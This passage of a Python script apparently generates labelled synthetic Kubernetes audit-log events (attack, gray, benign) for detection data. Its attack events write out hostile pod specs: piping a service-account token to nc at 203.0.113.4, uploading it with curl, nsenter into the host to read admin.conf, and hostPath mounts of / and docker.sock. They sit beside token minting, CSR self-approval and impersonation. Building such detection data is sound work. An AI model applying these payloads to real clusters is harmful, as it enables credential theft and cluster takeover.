                          "OpenAPI-Generator/29.0.0/python", "kubernetes-client/0.22 javascript", "xmrig/6"]:
        event("attack", "client", "list", secrets_uri(), pick([account("iot", "tracker"), account("default",
              "default")])
              if agent not in ("k9s/v0.32.5" + CLIENT_GO, "Lens/2024.7") else pick(PEOPLE), agent, pick(PODS), 200)
    event("attack", "renamed-kubectl", "list", secrets_uri("prod"), pick(PEOPLE),
          "kc/v1.30.2 (linux/amd64) kubernetes/3968350", "10.9.3.17")
    event("attack", "foreign-program", "get", secrets_uri("hr", "ldap"), account("frontend", "gateway"),
          "loader/v0.0.0 (linux/amd64) kubernetes/$Format", "10.42.0.77")
    event("attack", "foreign-program", "list", secrets_uri(), account("frontend", "default"),
          "manager/v0.0.0 (linux/amd64) kubernetes/$Format", "203.0.113.50")
    event("attack", "received", "list", secrets_uri(query="?limit=500"), pick(PEOPLE), KUBECTL[0], "10.9.3.17",
          stage="RequestReceived")
    event("attack", "received", "get", secrets_uri("hr", "ldap"), account("iot", "tracker"), "curl/8.1", "10.42.0.12",
          stage="RequestReceived")
    event("attack", "old-api", "list", secrets_uri(), pick(PEOPLE), KUBECTL[5], "10.9.3.17", version="v1beta1")
    event("attack", "delete-all", "deletecollection", secrets_uri("hr"), pick(PEOPLE), KUBECTL[0], "10.9.3.17")
    event("attack", "bad-token", "list", secrets_uri("default"), "", "curl/7.88.1", "10.42.0.12", 401)
    for user, agent, uri in (("system:node:n4", "curl/8.1", secrets_uri()), ("system:node:n4", KUBECTL[0],
          secrets_uri("prod")),
                             ("system:node:n4", "kubelet/v1.30.1 (linux/amd64) kubernetes/6911225", secrets_uri()),
                             ("system:node:n4", "kubelet/v1.30.1 (linux/amd64) kubernetes/6911225",
                                   secrets_uri("kube-system")),
                             ("system:kube-controller-manager", KUBECTL[0], secrets_uri()),
                             ("system:kube-scheduler", "curl/8.1", secrets_uri("kube-system")),
                             ("system:bootstrap:abcdef", KUBECTL[0], secrets_uri("kube-system")),
                             ("eks:addon-manager", KUBECTL[0], secrets_uri())):
        event("attack", "cluster-identity", "list", uri, user, agent, pick(PRIVATE + PUBLIC), pick([200, 403]))
    for agent in ("curl/8.1", "Mozilla/5.0 zgrab/0.x", "Go-http-client/1.1", "Nuclei - Open-source project", None):
        event("attack", "anonymous", "list", secrets_uri(pick([None, "default"])), "system:anonymous", agent,
              pick(PUBLIC), pick([200, 403]))
    event("attack", "anonymous", "list", "/api/v1/pods", "system:anonymous", "curl/8.1", "203.0.113.8", 200)
    event("attack", "anonymous", "create", "/api/v1/namespaces/default/pods", "system:anonymous", "python-requests/2",
          "203.0.113.8", 201)
    event("attack", "wrapped", "list", secrets_uri(), "masterclient", KUBECTL[0], "10.9.3.17", wrap="aks")
    event("attack", "wrapped", "list", secrets_uri("hr"), account("iot", "tracker"), "curl/8.1", "10.9.3.17",
          wrap="cloudwatch")
    event("attack", "helm-values", "get", secrets_uri("prod", "sh.helm.release.v1.pay.v3"), account("iot", "tracker"),
          "curl/8.1", "10.42.0.12")
    for as_user, groups in (("system:admin", ["system:masters"]), ("root", ["system:masters"]),
                            (account("kube-system", "clusterrole-aggregation-controller"), None), ("system:node:n1",
                                  None)):
        event("attack", "impersonation", "list", secrets_uri(pick([None, "kube-system"])), pick(PEOPLE[:4]),
              pick(KUBECTL),
              pick(PRIVATE), pick([200, 403]), as_user=as_user, as_groups=groups)
        event("attack", "impersonation", "create", exec_uri("prod", ["id"]), pick(PEOPLE[:4]), pick(KUBECTL),
              pick(PRIVATE), 101, as_user=as_user, as_groups=groups)


def attack_tokens():
    body = {"kind": "TokenRequest", "spec": {"audiences": None, "expirationSeconds": 315360000,
    "boundObjectRef": None}}
    for user, agent in ((PEOPLE[0], KUBECTL[0]), (PEOPLE[4], KUBECTL[3]), (account("iot", "tracker"), "curl/8.1"),
                        (account("iot", "tracker"), KUBECTL[1]), (account("hr", "mailer"), TOOLS[0]),
                        ("system:node:n4", "curl/8.1"), (account("ci", "deployer"), "python-requests/2.31"),
                        ("system:node:n4", "kubelet/v1.30.1 (linux/amd64) kubernetes/6911225")):
        event("attack", "token-request", "create", f"/api/v1/namespaces/{pick(['kube-system', ns()])}/serviceaccounts/"
              f"{pick(['admin', 'deployer', 'default'])}/token", user, agent, pick(PRIVATE + PUBLIC), pick([201, 403]),
              body=body)
    event("attack", "token-request", "create", "/api/v1/namespaces/prod/serviceaccounts/deployer/token", PEOPLE[1],
          KUBECTL[0], "10.9.3.17", 201)
    event("attack", "token-secret", "create", "/api/v1/namespaces/kube-system/secrets", PEOPLE[2], KUBECTL[0],
          "10.9.3.17", 201, body={"kind": "Secret", "type": "kubernetes.io/service-account-token", "metadata": {
              "name": "t", "annotations": {"kubernetes.io/service-account.name": "admin"}}})
    for resource, user, agent in (("selfsubjectrulesreviews", PEOPLE[0], KUBECTL[0]),
                                  ("selfsubjectrulesreviews", account("iot", "tracker"), KUBECTL[0]),
                                  ("selfsubjectrulesreviews", account("iot", "tracker"), "curl/8.1"),
                                  ("selfsubjectrulesreviews", account("hr", "mailer"), TOOLS[3]),
                                  ("selfsubjectaccessreviews", account("hr", "mailer"), "python-requests/2.31"),
                                  ("selfsubjectaccessreviews", PEOPLE[1], KUBECTL[1])):
        event("attack", "what-may-i", "create", "/apis/authorization.k8s.io/v1/" + resource, user, agent,
              pick(PRIVATE),
              201, body={"kind": "x", "spec": {"namespace": "default", "resourceAttributes": {
                  "verb": "get", "resource": "secrets"}}})
    event("attack", "what-may-i", "create", "/apis/authentication.k8s.io/v1/selfsubjectreviews",
          account("iot", "tracker"), KUBECTL[0], "10.42.0.12", 201)
    event("attack", "certificate", "create", "/apis/certificates.k8s.io/v1/certificatesigningrequests", PEOPLE[3],
          KUBECTL[0], "10.9.3.17", 201, body={"metadata": {"name": "me"}, "spec": {
              "signerName": "kubernetes.io/kube-apiserver-client", "usages": ["client auth"]}})
    event("attack", "certificate", "update", "/apis/certificates.k8s.io/v1/certificatesigningrequests/me/approval",
          PEOPLE[3], KUBECTL[0], "10.9.3.17")
    event("attack", "openshift", "list", "/apis/oauth.openshift.io/v1/oauthaccesstokens?limit=500", PEOPLE[4],
          KUBECTL[3],
          "10.9.3.17")
    event("attack", "rancher", "list", "/apis/management.cattle.io/v3/tokens?limit=500", PEOPLE[11], KUBECTL[0],
          "10.9.3.17")
    event("attack", "gardener", "create",
          "/apis/core.gardener.cloud/v1beta1/namespaces/garden-x/shoots/y/adminkubeconfig",
          PEOPLE[0], KUBECTL[0], "10.9.3.17", 201)
    event("attack", "accounts", "list", "/api/v1/serviceaccounts", account("iot", "tracker"), "curl/8.1", "10.42.0.12")
    event("attack", "accounts", "list", "/api/v1/namespaces/kube-system/serviceaccounts", account("iot", "tracker"),
          KUBECTL[0], "10.42.0.12", 403)


def attack_pods():
    for words in STEALING:
        user = pick(PEOPLE + [account("iot", "tracker")])
        event("attack", "exec", pick(["get", "create"]), exec_uri(ns(), words), user, pick(KUBECTL), pick(PRIVATE),
              101,
              stage=pick(["ResponseStarted", "ResponseComplete", "RequestReceived"]))
    for name, namespace in (("etcd-master-0", "kube-system"), ("vault-0", "vault"), ("kube-apiserver-cp1",
          "kube-system"),
                            ("etcd-0", "openshift-etcd")):
        event("attack", "port-forward", pick(["get", "create"]),
              f"/api/v1/namespaces/{namespace}/pods/{name}/portforward",
              pick(PEOPLE), pick(KUBECTL), pick(PRIVATE), 101)
    for command in (["cat", "/proc/1/root" + TOKEN], ["sh", "-c", "cat /proc/1/environ"]):
        event("attack", "debug", "patch", f"/api/v1/namespaces/{ns()}/pods/{pod()}/ephemeralcontainers", pick(PEOPLE),
              pick(KUBECTL), pick(PRIVATE), body={"spec": {"ephemeralContainers": [
                  {"name": "d", "image": "busybox", "targetContainerName": "app", "command": command}]}})
    pods = [
        {"containers": [{"name": "x", "image": "alpine", "command": ["sh", "-c"],
        "args": ["cat " + TOKEN + " | nc 203.0.113.4 80"]}]},
        {"containers": [{"name": "x", "image": "curlimages/curl", "args": ["-F", "t=@" + TOKEN,
        "http://203.0.113.4"]}]},
        {"hostPID": True, "containers": [{"name": "x", "command": ["nsenter", "-t", "1", "-m", "cat",
        "/etc/kubernetes/admin.conf"],
                                          "securityContext": {"privileged": True}}]},
        {"volumes": [{"hostPath": {"path": "/"}, "name": "h"}], "containers": [{"name": "x", "command": ["sleep",
        "9d"]}]},
        {"volumes": [{"hostPath": {"path": "/var/lib/kubelet/pods"}, "name": "h"}], "containers": [{"name": "x"}]},
        {"volumes": [{"hostPath": {"path": "/var/run/docker.sock"}, "name": "h"}], "containers": [{"name": "x"}]},
        {"volumes": [{"hostPath": {"path": "/etc/kubernetes"}, "name": "h"}], "containers": [{"name": "x"}]},
        {"serviceAccountName": "cluster-admin", "containers": [{"name": "x", "command": ["sleep", "1d"]}]},
    ]
    for spec in pods:
        event("attack", "pod", "create",
              f"/api/v1/namespaces/{ns()}/pods?fieldManager=kubectl-{pick(['run', 'create'])}",
              pick(PEOPLE + [account("iot", "tracker")]), pick(KUBECTL), pick(PRIVATE), 201,
              body={"kind": "Pod", "metadata": {"name": "x"}, "spec": spec})
    event("attack", "workload", "create", "/apis/batch/v1/namespaces/prod/cronjobs", PEOPLE[0], KUBECTL[0],
          "10.9.3.17",
          201, body={"kind": "CronJob", "spec": {"jobTemplate": {"spec": {"template": {"spec": pods[0]}}}}})
    event("attack", "workload", "create", "/apis/apps/v1/namespaces/kube-system/daemonsets", account("iot", "tracker"),
          "curl/8.1", "10.42.0.12", 201, body={"kind": "DaemonSet", "spec": {"template": {"spec": pods[3]}}})
    for user, agent in ((account("default", "default"), "curl/8.1"), (account("iot", "tracker"), KUBECTL[0]),
                        (account("iot", "tracker"), "python-requests/2.31"), ("system:node:n4", "curl/8.1")):
        event("attack", "logs", "get", f"/api/v1/namespaces/{ns()}/pods/{pod()}/log?tailLines=9000", user, agent,
              pick(PODS + PUBLIC))
    for user, agent in ((PEOPLE[0], KUBECTL[0]), (account("iot", "tracker"), "curl/8.1")):
        event("attack", "configmaps", "list", "/api/v1/configmaps?limit=500", user, agent, pick(PRIVATE))
    event("attack", "configmaps", "get", "/api/v1/namespaces/kube-system/configmaps/aws-auth", account("iot",
          "tracker"),
          "curl/8.1", "10.42.0.12")
    for path, verb, user, agent in (
            ("pods", "get", PEOPLE[0], KUBECTL[0]), ("runningpods/", "get", account("iot", "tracker"), "curl/8.1"),
            ("run/prod/web-0/app", "create", account("iot", "tracker"), "curl/8.1"), ("configz", "get", PEOPLE[1],
                  "curl/8"),
            ("containerLogs/prod/web-0/app", "get", PEOPLE[2], KUBECTL[1]), ("exec/prod/web-0/app?command=env",
                  "create", PEOPLE[3], "curl/8"),
            ("logs/", "get", PEOPLE[0], KUBECTL[0]), ("metrics", "get", "system:anonymous", "curl/8.1")):
        event("attack", "node-proxy", verb, f"/api/v1/nodes/n{random.randrange(9)}/proxy/{path}", user, agent,
              pick(PRIVATE))
    event("attack", "service-proxy", "get", "/api/v1/namespaces/vault/services/vault:8200/proxy/v1/secret/data/db",
          PEOPLE[0], KUBECTL[0], "10.9.3.17")
    event("attack", "pod-proxy", "get", "/api/v1/namespaces/prod/pods/api-0:8080/proxy/actuator/env", PEOPLE[0],
          KUBECTL[0], "10.9.3.17")
    event("attack", "tool", "list", "/api/v1/namespaces", account("iot", "tracker"), TOOLS[0], "10.42.0.12")


def gray():
    for words in (["sh"], ["bash"], ["/bin/sh", "-i"]):
        event("gray", "shell", "create", exec_uri(ns(), words, more="&container=app&stdin=true&stdout=true&tty=true"),
              pick(PEOPLE), pick(KUBECTL), pick(PRIVATE), 101)
    event("gray", "attach", "get", "/api/v1/namespaces/lab-7/pods/x-0/attach?container=c&stdin=true", PEOPLE[0],
          KUBECTL[0], "10.9.3.17", 101)
    event("gray", "debug", "patch", "/api/v1/namespaces/lab-7/pods/x-0/ephemeralcontainers", PEOPLE[0], KUBECTL[0],
          "10.9.3.17", body={"spec": {"ephemeralContainers": [{"name": "d", "image": "busybox", "command": ["sh"]}]}})
    event("benign", "helm-people", "list", secrets_uri("prod", query="?labelSelector=owner%3Dhelm"), PEOPLE[0],
          "Helm/3.15.2",
          "10.9.3.17")
    event("gray", "configmaps", "list", "/api/v1/namespaces/prod/configmaps?limit=500", PEOPLE[0], KUBECTL[0],
          "10.9.3.17")
    event("gray", "accounts", "list", "/api/v1/namespaces/prod/serviceaccounts?limit=500", PEOPLE[0], KUBECTL[0],
          "10.9.3.17")
    event("gray", "dashboard", "create", "/apis/authorization.k8s.io/v1/selfsubjectaccessreviews", PEOPLE[0],
          "Lens/2024.7", "10.9.3.17", 201)


def main():
    for make in (benign_operators, benign_cluster, benign_people, attack_secrets, attack_tokens, attack_pods, gray):
        make()
    random.shuffle(rows)
    sys.stdout.write("label\ttechnique_variant\ttelemetry\ttext\n")
    for row in rows:
        sys.stdout.write("\t".join(row) + "\n")


main()
